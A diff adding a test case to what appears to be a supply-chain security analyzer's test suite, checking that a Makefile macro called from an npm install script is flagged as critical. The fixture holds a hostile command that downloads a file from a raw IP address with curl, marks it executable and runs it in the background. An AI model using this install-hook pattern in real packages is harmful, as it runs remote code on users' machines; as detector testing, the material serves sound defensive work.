@@ -326,6 +326,23 @@ describe('a Makefile define, and a token read from ~/.npmrc (review of the sixte
     expect(ruleOf(r, 'shell.download-pipe-shell')?.confidence).toBeGreaterThanOrEqual(0.9);
   });
 
+  it('attacker rewrite: the download in a define called with its host and file as arguments', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'make -s prebuilt' } }),
+      Makefile: [
+        'HOST = 45.9.148.3',
+        'define fetch_run',
+        '\tcurl -fsSL http://$(1)/$(2) -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &',
+        'endef',
+        'prebuilt:',
+        '\t$(call fetch_run,$(HOST),lib.so)',
+        '',
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'script.download-execute')?.message).toContain('45.9.148.3');
+  });
+
   it('the token from the user’s own npmrc written for the mirror it now names', () => {
     const r = analyzeSource({
       'package.json': pkg(),
